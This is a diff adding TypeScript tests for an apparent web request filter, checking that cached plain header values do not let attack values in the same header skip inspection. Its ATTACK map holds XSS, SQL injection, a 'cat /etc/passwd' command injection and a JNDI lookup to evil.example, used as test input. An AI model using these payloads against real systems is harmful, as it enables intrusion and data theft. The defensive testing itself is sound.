@@ -53,3 +53,60 @@ describe("header values shared from request to request", () => {
     }
   });
 });
+
+// A value found plain (request/plain-headers.ts: no target) is remembered by its buffer
+// (request/headers.ts plainHeader): the next request that shares that buffer skips the shape check.
+// A value that is not plain, or plain bytes under a name that does not allow them, is still a target.
+describe("plain header values remembered from request to request", () => {
+  const PLAIN: [string, string][] = [
+    ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
+    ["accept-encoding", "gzip, deflate, br"],
+    ["accept-language", "en-US,en;q=0.9"],
+    ["cache-control", "no-cache"],
+    ["x-forwarded-for", "10.1.2.3, 10.4.5.6"],
+    ["referer", "https://shop.example.com/cart/items"],
+    ["traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"],
+  ];
+  // what each name carries in an attack, in a shape it does not allow
+  const ATTACK: Record<string, string> = {
+    accept: "text/html;q=0.9<script>alert(document.domain)</script>",
+    "accept-encoding": "gzip; cat /etc/passwd",
+    "accept-language": "en-US' OR '1'='1' --",
+    "cache-control": "no-cache, ${jndi:ldap://evil.example/a}",
+    "x-forwarded-for": "10.1.2.3' UNION SELECT password FROM users --",
+    referer: "https://shop.example.com/?q=<svg/onload=alert(1)>",
+    traceparent: "00-4bf92f35' OR 1=1 --",
+  };
+
+  it("are plain again, and an attack under the same name right after is inspected", async () => {
+    const em = await loadFilter({ mode: "detect" });
+    for (let round = 0; round < 3; round++) {
+      for (const [name, value] of PLAIN) {
+        const steps: [[string, string][], boolean][] = [
+          [PLAIN, false],
+          [PLAIN, false],
+          [PLAIN.map(([k, v]): [string, string] => [k, k == name ? ATTACK[k] : v]), true],
+          [PLAIN, false],
+          // the same bytes under a name with no plain shape: a target, found clean
+          [[...PLAIN, ["x-note", value]], false],
+        ];
+        for (const [headers, found] of steps) {
+          const rules = filterRules(em, get(headers));
+          expect(rules, JSON.stringify(headers)).toEqual(harnessRules(h, get(headers)));
+          expect(rules.length > 0, JSON.stringify(headers)).toBe(found);
+        }
+      }
+    }
+  });
+
+  it("are judged on their own bytes after many other plain values took their slots", async () => {
+    const em = await loadFilter({ mode: "block" });
+    const languages = Array.from({ length: 80 }, (_, i) => `en-US,x${i};q=0.${(i % 9) + 1}`);
+    for (const lang of languages) expect(runRequest(em, get([["accept-language", lang], ["accept-encoding", "gzip"]])).blocked).toBe(false);
+    for (const lang of languages.slice(0, 10)) {
+      expect(runRequest(em, get([["accept-language", lang]])).blocked).toBe(false);
+      expect(runRequest(em, get([["accept-language", ATTACK["accept-language"]]])).blocked).toBe(true);
+    }
+  });
+});
+
